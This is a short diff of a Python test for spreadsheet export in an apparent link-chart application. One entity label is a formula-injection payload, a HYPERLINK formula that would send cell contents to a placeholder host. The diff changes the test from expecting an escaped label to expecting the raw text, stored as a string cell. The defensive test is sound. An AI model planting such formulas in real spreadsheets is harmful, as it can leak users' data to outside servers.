@@ -152,7 +152,7 @@ def test_spreadsheet_of_the_chart_and_of_the_selection(qtbot, window, tmp_path):
     assert book["Entities"].max_row == 1 + 132 and book["Links"].max_row == 1 + 262
     rows = list(book["Entities"].iter_rows(values_only=True))
     labels = [row[rows[0].index("Label")] for row in rows[1:]]
-    assert "'=HYPERLINK(\"http://x/?\"&A1)" in labels  # neutralised, never a formula
+    assert "=HYPERLINK(\"http://x/?\"&A1)" in labels  # a string cell, never a formula
 
     window.selection.set(links=[IDS["atar-baghdadi"]])
     written = exported(qtbot, window, lambda: window.data_export.export_spreadsheet(
